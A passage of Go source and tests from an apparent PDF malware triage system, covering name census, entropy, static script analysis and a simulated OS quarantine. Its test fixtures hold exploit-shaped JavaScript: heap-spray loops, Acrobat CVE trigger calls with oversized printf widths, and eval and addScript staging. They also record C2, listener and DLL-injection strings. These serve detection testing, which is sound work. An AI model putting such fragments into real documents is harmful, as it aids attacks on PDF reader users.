		c.EmbeddedPDFs = len(res.Embedded)
		if res.Doc != nil && res.Doc.Recovered {
			c.Recovered = true
		}
		// The F1–F5 positives are exactly the suspicious minority of the
		// corpus (Figure 6 / Table VI); any positive forfeits the fast
		// path. Flag names stay stable for journal consumers.
		if c.Static[0] == 1 {
			flag("f1-chain-ratio")
		}
		if c.Static[1] == 1 {
			flag("f2-header-obfuscation")
		}
		if c.Static[2] == 1 {
			flag("f3-hex-names")
		}
		if c.Static[3] == 1 {
			flag("f4-empty-objects")
		}
		if c.Static[4] == 1 {
			flag("f5-encoding-levels")
		}
		if c.Recovered {
			flag("recovered-parse")
		}
		if c.Encrypted {
			flag("encrypted")
		}
		if c.EmbeddedPDFs > 0 {
			flag("embedded-pdf")
		}
	}
	if c.EOFMarkers > 1 {
		flag("multiple-eof")
	}
	if c.Names.Launch > 0 {
		flag("name-launch")
	}
	if c.Names.RichMedia > 0 {
		flag("name-richmedia")
	}
	if res != nil && c.EmbeddedPDFs == 0 && c.Names.EmbeddedFile > 0 {
		// An /EmbeddedFile name the front end did not resolve into an
		// analyzable attachment (non-PDF payload, broken tree): dynamic.
		flag("name-embeddedfile")
	}
	return c
}

// countName counts occurrences of a PDF name on a name boundary: the
// match must not be followed by a regular name character (so /AA does not
// count /AAPL) or by a #xx escape continuing the name.
func countName(raw []byte, name string) int {
	pat := []byte(name)
	n, off := 0, 0
	for {
		i := bytes.Index(raw[off:], pat)
		if i < 0 {
			return n
		}
		end := off + i + len(pat)
		if end >= len(raw) || !isNameChar(raw[end]) {
			n++
		}
		off += i + len(pat)
	}
}

// isNameChar reports whether c continues a PDF name token.
func isNameChar(c byte) bool {
	switch {
	case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z', c >= '0' && c <= '9':
		return true
	case c == '#' || c == '_' || c == '-' || c == '.' || c == '+':
		return true
	}
	return false
}

// shannonEntropy computes bits/byte over (a prefix of) the input.
func shannonEntropy(raw []byte) float64 {
	if len(raw) == 0 {
		return 0
	}
	if len(raw) > entropySample {
		raw = raw[:entropySample]
	}
	var freq [256]int
	for _, b := range raw {
		freq[b]++
	}
	total := float64(len(raw))
	var h float64
	for _, f := range freq {
		if f == 0 {
			continue
		}
		p := float64(f) / total
		h -= p * math.Log2(p)
	}
	return h
}
