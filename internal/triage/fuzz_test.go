package triage

import (
	"testing"

	"pdfshield/internal/instrument"
	"pdfshield/internal/pdf"
)

// FuzzTriage throws hostile bytes at both triage surfaces at once: the
// byte-level census (name scanning, entropy, EOF counting) and the
// abstract interpreter (the same bytes fed as a script source). Neither
// may panic, and whatever comes back must be a valid route — hostile
// input earns the dynamic tier, never a crash and never a confident-
// benign verdict.
func FuzzTriage(f *testing.F) {
	f.Add([]byte("%PDF-1.4\n1 0 obj <</AA 2 0 R>> endobj\n%%EOF"))
	f.Add([]byte("/OpenAction/Launch/RichMedia/EmbeddedFile%%EOF%%EOF"))
	f.Add([]byte(`var n = unescape("%0c"); while (n.length < 524288) n += n;`))
	f.Add([]byte(`eval("eval(\"eval(1)\")");`))
	f.Add([]byte(`util.printf("%99999999999999999999f", 0);`))
	f.Add([]byte("/AA#41#42 \x00\xff\xfe /Lau#6ech"))
	f.Add([]byte(`this.addScript("x", "app.setTimeOut(\"eval(1)\", 1)");`))
	f.Fuzz(func(t *testing.T, data []byte) {
		res := &instrument.Result{
			Chains: pdf.ChainSet{Chains: []pdf.JSChain{{Source: string(data)}}},
		}
		d := Evaluate(Config{NodeBudget: 20000}, data, res)
		switch d.Route {
		case RouteMalicious, RouteUncertain:
		case RouteBenign:
			// A fast-path verdict on fuzz input is possible only when the
			// bytes parse as a fully clean benign script; that is fine,
			// but the decision must then claim zero signals.
			if len(d.Signals) != 0 || len(d.Uncertain) != 0 {
				t.Fatalf("benign route with evidence: %+v", d)
			}
		default:
			t.Fatalf("invalid route %q", d.Route)
		}
		TakeCensus(data, nil)
	})
}
