// Package triage is the static fast-path stage between the front-end
// instrumenter and the dynamic reader session. At production volumes most
// documents should never reach a reader process (ROADMAP item 3): the
// stage re-uses the already-parsed document and the extracted Javascript
// chains to decide, purely statically, whether the dynamic tier can be
// skipped.
//
// Two analyses feed the decision:
//
//   - a PDFInspect-style census over the raw bytes and the parsed
//     structure (census.go): suspicious-name counts (/AA, /OpenAction,
//     /Launch, /RichMedia, /EmbeddedFile), Shannon entropy, multiple
//     %%EOF markers, plus the F1–F5 static features, recovery/encryption
//     markers and embedded-PDF presence;
//   - a SAFE-PDF-style abstract interpretation over every extracted
//     script (absint.go): a flow-insensitive over-approximation of the
//     reachable API surface that recognizes eval/unescape chains,
//     heap-spray growth shapes, the Table III trigger-API families and
//     staged-execution rewrites without executing anything.
//
// The stage emits a three-way route. Confident-benign documents skip the
// sandbox and get their verdict directly; confident-malicious documents
// go straight to confinement (they are never opened — the strongest
// containment available); everything else falls through to the full
// dynamic open, which remains the ground truth. The bias is fail-safe by
// construction: a script that fails to parse, an API outside the known-
// benign allowlist, any encryption or parser recovery, or an abstract-
// domain budget blowup all route to "uncertain". A document only routes
// confident-benign when every census field is clean AND every script
// resolves to exclusively known-benign behaviour.
package triage

import (
	"sort"

	"pdfshield/internal/instrument"
)

// Route is the triage stage's three-way decision.
type Route string

// Routes. RouteUncertain is the fail-safe default: the document takes the
// full dynamic path exactly as if triage were disabled.
const (
	RouteBenign    Route = "benign"
	RouteMalicious Route = "malicious"
	RouteUncertain Route = "uncertain"
)

// Config tunes the stage. The zero value is the production default and is
// what pipeline.Options.Triage enables.
type Config struct {
	// MaliciousThreshold is the abstract-interpretation score at or above
	// which a document routes confident-malicious (0 = default 8, the
	// weight of a bare unescape-fed heap-spray growth loop).
	MaliciousThreshold int
	// NodeBudget bounds the AST nodes visited per document across all
	// scripts and eval recursions (0 = default 200000). Exceeding it is
	// an abstract-domain blowup and routes to "uncertain".
	NodeBudget int
	// MaxScriptBytes bounds a single script source fed to the abstract
	// interpreter (0 = default 1 MiB). Larger scripts route "uncertain".
	MaxScriptBytes int
}

// Defaults.
const (
	DefaultMaliciousThreshold = 8
	DefaultNodeBudget         = 200000
	DefaultMaxScriptBytes     = 1 << 20
)

func (c Config) withDefaults() Config {
	if c.MaliciousThreshold <= 0 {
		c.MaliciousThreshold = DefaultMaliciousThreshold
	}
	if c.NodeBudget <= 0 {
		c.NodeBudget = DefaultNodeBudget
	}
	if c.MaxScriptBytes <= 0 {
		c.MaxScriptBytes = DefaultMaxScriptBytes
	}
	return c
}

// Decision is the stage's full output: the route plus the evidence behind
// it, suitable for journaling and operator display. All slices are sorted
// so the decision serializes deterministically.
type Decision struct {
	Route Route `json:"route"`
	// Score is the abstract interpreter's suspicion score (the sum of the
	// distinct Signals' weights; >= the configured threshold routes
	// confident-malicious).
	Score int `json:"score"`
	// Signals are the distinct suspicious constructs the abstract
	// interpreter proved reachable ("spray-grow", "unescape",
	// "api-getIcon", ...). Any signal disqualifies confident-benign.
	Signals []string `json:"signals,omitempty"`
	// Uncertain lists the fail-safe conditions that force the dynamic
	// path ("encrypted", "js-parse-error", "api-unknown:...", ...).
	Uncertain []string `json:"uncertain,omitempty"`
	// Census is the structural survey of the document.
	Census Census `json:"census"`
	// Scripts is how many extracted scripts (host + embedded documents)
	// the abstract interpreter analyzed.
	Scripts int `json:"scripts"`
}

// Evaluate runs the triage stage over one submission: raw is the original
// document bytes (census input), res the front-end result whose parsed
// document and extracted chains are re-used (nothing is re-parsed). It
// never executes script code and never mutates res.
func Evaluate(cfg Config, raw []byte, res *instrument.Result) Decision {
	cfg = cfg.withDefaults()
	d := Decision{Census: TakeCensus(raw, res)}
	an := newAnalysis(cfg)
	if res != nil {
		for _, ch := range res.Chains.Chains {
			d.Scripts++
			an.analyzeScript(ch.Source)
		}
		// Embedded documents were recursively instrumented by the front
		// end; their chains are analyzed under the same budget so a
		// malicious attachment convicts the compound document without an
		// open. Embedded presence still disqualifies confident-benign
		// (census flag): the attachment's bytes were not part of this
		// census.
		for _, emb := range res.Embedded {
			if emb == nil {
				continue
			}
			for _, ch := range emb.Chains.Chains {
				d.Scripts++
				an.analyzeScript(ch.Source)
			}
		}
	}
	d.Score = an.score()
	d.Signals = sortedKeys(an.signals)
	d.Uncertain = append(d.Uncertain, d.Census.Flags...)
	d.Uncertain = append(d.Uncertain, sortedKeys(an.uncertain)...)
	switch {
	case d.Score >= cfg.MaliciousThreshold:
		d.Route = RouteMalicious
	case len(d.Uncertain) == 0 && len(d.Signals) == 0 && d.Scripts > 0:
		d.Route = RouteBenign
	default:
		d.Route = RouteUncertain
	}
	return d
}

func sortedKeys(m map[string]bool) []string {
	if len(m) == 0 {
		return nil
	}
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
