package triage

import (
	"strings"
	"testing"

	"pdfshield/internal/corpus"
	"pdfshield/internal/instrument"
)

// analyze runs the abstract interpreter over one script with defaults.
func analyze(t *testing.T, src string) *analysis {
	t.Helper()
	an := newAnalysis(Config{}.withDefaults())
	an.analyzeScript(src)
	return an
}

// The benign corpus idiom (form plumbing, formatting, report builders,
// navigation) must produce zero signals and zero uncertainty — that is
// the whole fast path.
func TestBenignScriptsAreClean(t *testing.T) {
	scripts := []string{
		`var f = this.getField("total");
var subtotal = 125.50;
var tax = subtotal * 0.08;
f.value = util.printf("%.2f", subtotal + tax);`,
		`var today = util.printd("yyyy/mm/dd", 0);
var f = this.getField("date");
f.value = today;
this.calculateNow();`,
		`function validate(v) {
  if (v < 0 || v > 100) { app.alert("Value out of range"); return 0; }
  return 1;
}
var ok = validate(42);`,
		`var parts = "2013-06-01".split("-");
var year = parseInt(parts[0], 10);
if (isNaN(year)) year = 2013;
var label = year + "/" + parts[1];`,
		`var rows = [];
for (var i = 0; i < 25000; i++) {
  rows[i] = "Row " + i + ": amount=" + (i * 3) + " status=OK";
}
var report = rows.join("\n");
var f = this.getField("report");
f.value = report.substring(0, 200);`,
		`var cells = [];
for (var r = 0; r < 280; r++) {
  var line = "";
  for (var c = 0; c < 55; c++) {
    line += "cell(" + r + "," + c + ");";
  }
  cells[r] = line;
}
var table = cells.join("|");`,
		`this.pageNum = 0; this.syncAnnotScan();`,
		`var v = app.viewerVersion; if (v >= 8) { this.calculateNow(); }`,
		`app.beep(0);`,
		`var total = 0; for (var i = 0; i < this.numPages; i++) total += i;`,
	}
	for i, src := range scripts {
		an := analyze(t, src)
		if len(an.signals) != 0 || len(an.uncertain) != 0 {
			t.Errorf("script %d: signals=%v uncertain=%v, want clean",
				i, sortedKeys(an.signals), sortedKeys(an.uncertain))
		}
	}
}

// The canonical spray (unescape + doubling to heap size + block fill)
// must convict on its own: the Flash/CoolType carriers never call a
// trigger API from Javascript.
func TestSprayShapeConvicts(t *testing.T) {
	src := `
var p = "PAYLOAD:DROP=C:\\tmp\\u.exe|";
var n = unescape("%0c%0c%0c%0c");
while (n.length < 524288) n += n;
var b = [];
for (var i = 0; i < 200; i++) b[i] = n + p;
`
	an := analyze(t, src)
	if !an.signals[SignalSprayGrow] {
		t.Fatalf("spray-grow not detected; signals=%v", sortedKeys(an.signals))
	}
	if an.score() < DefaultMaliciousThreshold {
		t.Fatalf("score %d below threshold %d", an.score(), DefaultMaliciousThreshold)
	}
}

// Each CVE trigger fragment must raise its API-family signal.
func TestTriggerAPIFamilies(t *testing.T) {
	cases := map[string]string{
		`util.printf("%45000f", 0.01);`: SignalPrintfWidth,
		`var s = unescape("%0a"); while (s.length < 8192) s += s; Collab.getIcon(s + "_N");`:         "api-getIcon",
		`try { media.newPlayer(null); } catch(e) {}`:                                                 "api-newPlayer",
		`var d = unescape("%41"); while (d.length < 8192) d += d; spell.customDictionaryOpen(0, d);`: "api-customDictionaryOpen",
		`this.printSeps();`: "api-printSeps",
		`this.syncAnnotScan(); var an = this.getAnnots({nPage: 0});`: "api-getAnnots",
	}
	for src, want := range cases {
		an := analyze(t, src)
		if !an.signals[want] {
			t.Errorf("%q: signal %q not raised; got %v", src, want, sortedKeys(an.signals))
		}
	}
}

// Small benign printf widths must not trip the exploit signal.
func TestPrintfWidths(t *testing.T) {
	an := analyze(t, `var s = util.printf("%.2f", 1.5); var d = util.printf("Hello, %s", "x");`)
	if an.signals[SignalPrintfWidth] {
		t.Fatal("benign printf width flagged")
	}
	if maxFormatWidth("%45000f") != 45000 {
		t.Fatalf("maxFormatWidth(%%45000f) = %d", maxFormatWidth("%45000f"))
	}
	if w := maxFormatWidth("%999999999999999999f"); w < printfWidthLimit {
		t.Fatalf("overlong width parsed to %d", w)
	}
}

// eval of a resolvable constant (direct literal or concatenated halves)
// is analyzed recursively: the inner spray still convicts.
func TestEvalLiteralResolves(t *testing.T) {
	inner := `var n = unescape("%0c%0c"); while (n.length < 524288) n += n; this.printSeps();`
	quote := func(s string) string { return `"` + strings.ReplaceAll(s, `"`, `\"`) + `"` }
	half := len(inner) / 2
	for _, src := range []string{
		`eval(` + quote(inner) + `);`,
		`var q = ` + quote(inner[:half]) + ` + ` + quote(inner[half:]) + `;` + "\neval(q);",
	} {
		an := analyze(t, src)
		if !an.signals[SignalSprayGrow] || !an.signals["api-printSeps"] {
			t.Errorf("eval wrapper not penetrated: signals=%v uncertain=%v",
				sortedKeys(an.signals), sortedKeys(an.uncertain))
		}
	}
}

// eval of anything not statically resolvable must mark the script
// uncertain (fail-safe: dynamic tier decides).
func TestEvalDynamicIsUncertain(t *testing.T) {
	an := analyze(t, `var x = this.info.title; eval(x);`)
	if !an.uncertain["eval-dynamic"] {
		t.Fatalf("dynamic eval not flagged: %v", sortedKeys(an.uncertain))
	}
}

// Staged rewrites (addScript / string setTimeOut) with resolvable bodies
// are analyzed; the inner exploit convicts.
func TestStagingResolves(t *testing.T) {
	inner := `var n = unescape("%0c"); while (n.length < 524288) n += n; this.printSeps();`
	quoted := `"` + strings.ReplaceAll(inner, `"`, `\"`) + `"`
	for _, src := range []string{
		`this.addScript("updater", ` + quoted + `);`,
		`app.setTimeOut(` + quoted + `, 3000);`,
	} {
		an := analyze(t, src)
		if !an.signals[SignalSprayGrow] {
			t.Errorf("staged body not analyzed: %q signals=%v", src[:24], sortedKeys(an.signals))
		}
	}
}

// Unknown APIs (SOAP.request is the benign corpus's one example) are
// uncertainty, not conviction.
func TestUnknownAPIIsUncertainNotMalicious(t *testing.T) {
	an := analyze(t, `var resp = SOAP.request({cURL: "http://q.example.com", oRequest: {symbol: "ADBE"}});`)
	if len(an.signals) != 0 {
		t.Fatalf("unknown API raised signals: %v", sortedKeys(an.signals))
	}
	if !an.uncertain["api-unknown:SOAP.request"] {
		t.Fatalf("unknown API not flagged: %v", sortedKeys(an.uncertain))
	}
}

// Budget exhaustion and parse failures are fail-safe markers.
func TestFailSafeMarkers(t *testing.T) {
	an := newAnalysis(Config{NodeBudget: 10}.withDefaults())
	an.cfg.NodeBudget = 10
	an.analyzeScript(`var a = 1; var b = 2; var c = 3; var d = 4; var e = 5; var f = 6;`)
	if !an.uncertain["node-budget"] {
		t.Fatalf("budget blowup not flagged: %v", sortedKeys(an.uncertain))
	}
	an2 := analyze(t, `var = ;`)
	if !an2.uncertain["js-parse-error"] {
		t.Fatalf("parse error not flagged: %v", sortedKeys(an2.uncertain))
	}
	an3 := analyze(t, "")
	if !an3.uncertain["empty-script"] {
		t.Fatalf("empty script not flagged: %v", sortedKeys(an3.uncertain))
	}
}

func TestCensusNameBoundaries(t *testing.T) {
	raw := []byte("/AA /AAPL /OpenAction /OpenActionX /Launch\n%%EOF\ntrailer\n%%EOF\n")
	c := TakeCensus(raw, nil)
	if c.Names.AA != 1 {
		t.Errorf("AA count = %d, want 1", c.Names.AA)
	}
	if c.Names.OpenAction != 1 {
		t.Errorf("OpenAction count = %d, want 1", c.Names.OpenAction)
	}
	if c.Names.Launch != 1 {
		t.Errorf("Launch count = %d, want 1", c.Names.Launch)
	}
	if c.EOFMarkers != 2 {
		t.Errorf("EOF count = %d, want 2", c.EOFMarkers)
	}
	if !hasFlag(c.Flags, "multiple-eof") || !hasFlag(c.Flags, "name-launch") {
		t.Errorf("flags = %v", c.Flags)
	}
	if !hasFlag(c.Flags, "no-analysis") {
		t.Errorf("nil result not flagged: %v", c.Flags)
	}
}

func TestCensusEntropy(t *testing.T) {
	if e := shannonEntropy([]byte(strings.Repeat("a", 1024))); e != 0 {
		t.Errorf("uniform entropy = %f, want 0", e)
	}
	all := make([]byte, 4096)
	for i := range all {
		all[i] = byte(i)
	}
	if e := shannonEntropy(all); e < 7.9 {
		t.Errorf("full-byte entropy = %f, want ~8", e)
	}
}

func hasFlag(flags []string, f string) bool {
	for _, x := range flags {
		if x == f {
			return true
		}
	}
	return false
}

// resultFor runs the real static front end (parse + chain reconstruction
// + feature extraction) so Evaluate sees exactly what the pipeline hands
// it, minus instrumentation.
func resultFor(t *testing.T, raw []byte) *instrument.Result {
	t.Helper()
	feats, chains, doc, err := instrument.Analyze(raw)
	if err != nil {
		t.Fatalf("analyze: %v", err)
	}
	return &instrument.Result{
		Features:    feats,
		Chains:      chains,
		Doc:         doc,
		ObjectCount: chains.TotalObjects,
	}
}

// Every malicious corpus family must route malicious or uncertain —
// never confident-benign — across seeds. Families whose exploit lives in
// the host's own scripts must convict statically.
func TestEvaluateMaliciousFamiliesNeverBenign(t *testing.T) {
	staticallyConvictable := map[string]bool{
		"mal-printf": true, "mal-geticon": true, "mal-newplayer": true,
		"mal-customdict": true, "mal-printseps": true, "mal-flash": true,
		"mal-cooltype": true, "mal-egghunt": true, "mal-driveby": true,
		"mal-staged": true, "mal-delayed": true, "mal-titlehidden": true,
		"mal-crasher": true, "mal-crasher-clean": true,
	}
	for seed := int64(1); seed <= 3; seed++ {
		g := corpus.NewGenerator(seed)
		for _, fam := range corpus.MaliciousFamilies() {
			s, ok := g.MaliciousFamily(fam)
			if !ok {
				t.Fatalf("unknown family %s", fam)
			}
			d := Evaluate(Config{}, s.Raw, resultFor(t, s.Raw))
			if d.Route == RouteBenign {
				t.Errorf("seed %d %s: routed confident-benign (score=%d signals=%v uncertain=%v)",
					seed, fam, d.Score, d.Signals, d.Uncertain)
			}
			if staticallyConvictable[fam] && d.Route != RouteMalicious {
				t.Errorf("seed %d %s: route=%s score=%d signals=%v uncertain=%v, want malicious",
					seed, fam, d.Route, d.Score, d.Signals, d.Uncertain)
			}
		}
	}
}

// The benign JS population must never convict, and the bulk of it must
// take the fast path (that is where the ≥2x docs/sec comes from).
func TestEvaluateBenignPopulation(t *testing.T) {
	g := corpus.NewGenerator(7)
	samples := g.BenignWithJS(60)
	benign := 0
	for _, s := range samples {
		d := Evaluate(Config{}, s.Raw, resultFor(t, s.Raw))
		if d.Route == RouteMalicious {
			t.Errorf("%s (%s): routed malicious (score=%d signals=%v)", s.ID, s.Family, d.Score, d.Signals)
		}
		if d.Route == RouteBenign {
			benign++
		}
	}
	if benign*2 < len(samples) {
		t.Fatalf("only %d/%d benign JS docs took the fast path", benign, len(samples))
	}
}

// A scriptless or chain-less result can never route benign (fail-safe).
func TestEvaluateNoScriptsNeverBenign(t *testing.T) {
	d := Evaluate(Config{}, []byte("%PDF-1.4\n%%EOF\n"), &instrument.Result{})
	if d.Route == RouteBenign {
		t.Fatal("scriptless result routed benign")
	}
}
