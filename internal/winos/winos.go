// Package winos is a miniature facade over the Windows-like OS state the
// system observes and confines: a file system for dropped malware, a
// process table, and a quarantine area. The real system hooks ntdll APIs
// inside Acrobat; here the simulated reader process calls into this facade,
// and the hook layer intercepts those calls on the way in.
package winos

import (
	"errors"
	"fmt"
	"sort"
	"strings"
	"sync"
)

// ErrRejected is returned when a hooked call was denied by confinement.
var ErrRejected = errors.New("winos: call rejected by confinement")

// Proc is one process-table entry.
type Proc struct {
	PID       int
	Path      string
	Sandboxed bool
	Alive     bool
	// ParentPID is the spawner (0 for system).
	ParentPID int
}

// OS is the shared fake OS state. The zero value is not usable; use NewOS.
type OS struct {
	mu          sync.Mutex
	files       map[string][]byte
	quarantined map[string]string // path -> reason
	procs       map[int]*Proc
	nextPID     int
	// connections records host:port strings that were allowed through.
	connections []string
	// listens records ports opened for listening.
	listens []int
	// injected records DLL paths that were successfully injected.
	injected []string
}

// NewOS returns an empty OS.
func NewOS() *OS {
	return &OS{
		files:       make(map[string][]byte),
		quarantined: make(map[string]string),
		procs:       make(map[int]*Proc),
		nextPID:     1000,
	}
}

// WriteFile creates or overwrites a file.
func (o *OS) WriteFile(path string, data []byte) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.files[normPath(path)] = append([]byte(nil), data...)
}

// ReadFile reads a file.
func (o *OS) ReadFile(path string) ([]byte, bool) {
	o.mu.Lock()
	defer o.mu.Unlock()
	data, ok := o.files[normPath(path)]
	return data, ok
}

// FileExists reports whether a (non-quarantined) file exists.
func (o *OS) FileExists(path string) bool {
	o.mu.Lock()
	defer o.mu.Unlock()
	_, ok := o.files[normPath(path)]
	return ok
}

// Files lists file paths in sorted order.
func (o *OS) Files() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	out := make([]string, 0, len(o.files))
	for p := range o.files {
		out = append(out, p)
	}
	sort.Strings(out)
	return out
}

// Quarantine moves a file into the quarantine area (confinement "isolate").
func (o *OS) Quarantine(path, reason string) bool {
	o.mu.Lock()
	defer o.mu.Unlock()
	p := normPath(path)
	if _, ok := o.files[p]; !ok {
		return false
	}
	delete(o.files, p)
	o.quarantined[p] = reason
	return true
}

// Quarantined reports whether a path is quarantined, with its reason.
func (o *OS) Quarantined(path string) (string, bool) {
	o.mu.Lock()
	defer o.mu.Unlock()
	reason, ok := o.quarantined[normPath(path)]
	return reason, ok
}

// QuarantineCount returns the number of quarantined files.
func (o *OS) QuarantineCount() int {
	o.mu.Lock()
	defer o.mu.Unlock()
	return len(o.quarantined)
}

// Spawn adds a process and returns its PID.
func (o *OS) Spawn(path string, parent int, sandboxed bool) int {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.nextPID++
	o.procs[o.nextPID] = &Proc{
		PID:       o.nextPID,
		Path:      normPath(path),
		Sandboxed: sandboxed,
		Alive:     true,
		ParentPID: parent,
	}
	return o.nextPID
}

// Terminate kills a process.
func (o *OS) Terminate(pid int) bool {
	o.mu.Lock()
	defer o.mu.Unlock()
	p, ok := o.procs[pid]
	if !ok || !p.Alive {
		return false
	}
	p.Alive = false
	return true
}

// Process returns a copy of a process-table entry.
func (o *OS) Process(pid int) (Proc, bool) {
	o.mu.Lock()
	defer o.mu.Unlock()
	p, ok := o.procs[pid]
	if !ok {
		return Proc{}, false
	}
	return *p, true
}

// AliveProcesses returns live processes sorted by PID.
func (o *OS) AliveProcesses() []Proc {
	o.mu.Lock()
	defer o.mu.Unlock()
	var out []Proc
	for _, p := range o.procs {
		if p.Alive {
			out = append(out, *p)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i].PID < out[j].PID })
	return out
}

// RecordConnection notes an allowed outbound connection.
func (o *OS) RecordConnection(hostport string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.connections = append(o.connections, hostport)
}

// Connections returns recorded outbound connections.
func (o *OS) Connections() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return append([]string(nil), o.connections...)
}

// RecordListen notes an opened listening port.
func (o *OS) RecordListen(port int) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.listens = append(o.listens, port)
}

// Listens returns recorded listening ports.
func (o *OS) Listens() []int {
	o.mu.Lock()
	defer o.mu.Unlock()
	return append([]int(nil), o.listens...)
}

// RecordInjection notes a successful DLL injection.
func (o *OS) RecordInjection(dll string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.injected = append(o.injected, normPath(dll))
}

// Injections returns successful DLL injections.
func (o *OS) Injections() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return append([]string(nil), o.injected...)
}

// IsExecutablePath applies the Windows-flavoured heuristic used by the
// downloaded-executables list.
func IsExecutablePath(path string) bool {
	p := strings.ToLower(normPath(path))
	for _, ext := range []string{".exe", ".dll", ".scr", ".bat", ".cmd", ".com", ".pif"} {
		if strings.HasSuffix(p, ext) {
			return true
		}
	}
	return false
}

func normPath(p string) string {
	return strings.ToLower(strings.ReplaceAll(p, "/", "\\"))
}

// String renders a summary for diagnostics.
func (o *OS) String() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return fmt.Sprintf("winos{files=%d quarantined=%d procs=%d conns=%d}",
		len(o.files), len(o.quarantined), len(o.procs), len(o.connections))
}
