package winos

import "testing"

func TestFileLifecycle(t *testing.T) {
	o := NewOS()
	o.WriteFile(`C:\Tmp\a.exe`, []byte("MZ1"))
	if !o.FileExists(`c:\tmp\A.EXE`) {
		t.Error("case/slash-insensitive lookup failed")
	}
	data, ok := o.ReadFile("C:/tmp/a.exe")
	if !ok || string(data) != "MZ1" {
		t.Errorf("read = %q %v", data, ok)
	}
	if len(o.Files()) != 1 {
		t.Errorf("files = %v", o.Files())
	}
}

func TestQuarantine(t *testing.T) {
	o := NewOS()
	o.WriteFile(`C:\x.dll`, []byte("MZ"))
	if !o.Quarantine(`C:\x.dll`, "test") {
		t.Fatal("quarantine failed")
	}
	if o.FileExists(`C:\x.dll`) {
		t.Error("file still visible")
	}
	if reason, ok := o.Quarantined(`C:\x.dll`); !ok || reason != "test" {
		t.Errorf("reason = %q %v", reason, ok)
	}
	if o.QuarantineCount() != 1 {
		t.Error("count wrong")
	}
	if o.Quarantine(`C:\missing`, "x") {
		t.Error("quarantined a missing file")
	}
}

func TestProcessTable(t *testing.T) {
	o := NewOS()
	pid := o.Spawn(`C:\reader.exe`, 0, false)
	child := o.Spawn(`C:\mal.exe`, pid, true)
	if p, ok := o.Process(child); !ok || !p.Sandboxed || p.ParentPID != pid {
		t.Errorf("child = %+v %v", p, ok)
	}
	if len(o.AliveProcesses()) != 2 {
		t.Error("alive count wrong")
	}
	if !o.Terminate(child) {
		t.Error("terminate failed")
	}
	if o.Terminate(child) {
		t.Error("double terminate succeeded")
	}
	if len(o.AliveProcesses()) != 1 {
		t.Error("alive after terminate wrong")
	}
}

func TestNetworkRecords(t *testing.T) {
	o := NewOS()
	o.RecordConnection("c2.test:443")
	o.RecordListen(4444)
	o.RecordInjection(`C:\evil.dll`)
	if len(o.Connections()) != 1 || len(o.Listens()) != 1 || len(o.Injections()) != 1 {
		t.Errorf("records: %v %v %v", o.Connections(), o.Listens(), o.Injections())
	}
}

func TestIsExecutablePath(t *testing.T) {
	for _, p := range []string{`a.exe`, `B.DLL`, `x.scr`, `y.bat`, `z.cmd`, `w.com`, `v.pif`} {
		if !IsExecutablePath(p) {
			t.Errorf("%s should be executable", p)
		}
	}
	for _, p := range []string{`a.txt`, `b.pdf`, `noext`, `exe.doc`} {
		if IsExecutablePath(p) {
			t.Errorf("%s should not be executable", p)
		}
	}
}
