package pdfshield_test

import (
	"bytes"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"strings"
	"testing"

	"pdfshield/internal/cache"
	"pdfshield/internal/journal"
	"pdfshield/internal/obs"
	"pdfshield/internal/pipeline"
	"pdfshield/internal/serve"
)

// obsMetricConstants extracts every Metric*-named string constant from
// internal/obs by parsing the source, so the drift check cannot itself
// drift when constants are added.
func obsMetricConstants(t *testing.T) map[string]string {
	t.Helper()
	fset := token.NewFileSet()
	pkgs, err := parser.ParseDir(fset, "internal/obs", func(fi fs.FileInfo) bool {
		return !strings.HasSuffix(fi.Name(), "_test.go")
	}, 0)
	if err != nil {
		t.Fatalf("parse internal/obs: %v", err)
	}
	out := make(map[string]string) // constant name -> series name
	for _, pkg := range pkgs {
		for _, file := range pkg.Files {
			for _, decl := range file.Decls {
				gd, ok := decl.(*ast.GenDecl)
				if !ok || gd.Tok != token.CONST {
					continue
				}
				for _, spec := range gd.Specs {
					vs, ok := spec.(*ast.ValueSpec)
					if !ok {
						continue
					}
					for i, name := range vs.Names {
						if !strings.HasPrefix(name.Name, "Metric") || i >= len(vs.Values) {
							continue
						}
						lit, ok := vs.Values[i].(*ast.BasicLit)
						if !ok || lit.Kind != token.STRING {
							continue
						}
						out[name.Name] = strings.Trim(lit.Value, `"`)
					}
				}
			}
		}
	}
	if len(out) == 0 {
		t.Fatal("no Metric* constants found in internal/obs — parser broken?")
	}
	return out
}

// TestMetricNameDrift is the `make lint-metrics` gate: the metric
// vocabulary in internal/obs and the series actually registered at
// runtime must match in both directions. A constant nobody registers is
// a dashboard query that silently went dark after a rename; a registered
// pdfshield_* family without a constant is a metric dashboards cannot
// reference by the shared vocabulary.
func TestMetricNameDrift(t *testing.T) {
	constants := obsMetricConstants(t)

	// Build the full runtime universe on one isolated registry: the serve
	// daemon over a pipeline with cache, auto depth (triage + deep scan)
	// and a journal, plus the Go runtime series a /metrics scrape carries.
	// Every subsystem preregisters its series at construction, so the
	// snapshot below is the complete emission surface.
	reg := obs.NewRegistry()
	var jbuf bytes.Buffer
	jw := journal.NewWriter(&jbuf, journal.Options{Session: "drift", Obs: reg})
	srv, err := serve.New(serve.Config{
		Workers: 1,
		Pipeline: pipeline.Options{
			Seed:    1,
			Obs:     reg,
			Journal: jw,
			Depth:   pipeline.DepthAuto,
			Cache:   &cache.Config{},
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = srv.Close() }()
	reg.RegisterRuntimeMetrics()

	snap := reg.Snapshot()
	registered := make(map[string]bool)
	for name := range snap.Counters {
		base, _ := obs.SplitSeries(name)
		registered[base] = true
	}
	for name := range snap.Gauges {
		base, _ := obs.SplitSeries(name)
		registered[base] = true
	}
	for name := range snap.Histograms {
		base, _ := obs.SplitSeries(name)
		registered[base] = true
	}

	// Direction 1: every named constant is registered at runtime.
	for constName, series := range constants {
		if !registered[series] {
			t.Errorf("obs.%s = %q is never registered at runtime — renamed away or dead vocabulary", constName, series)
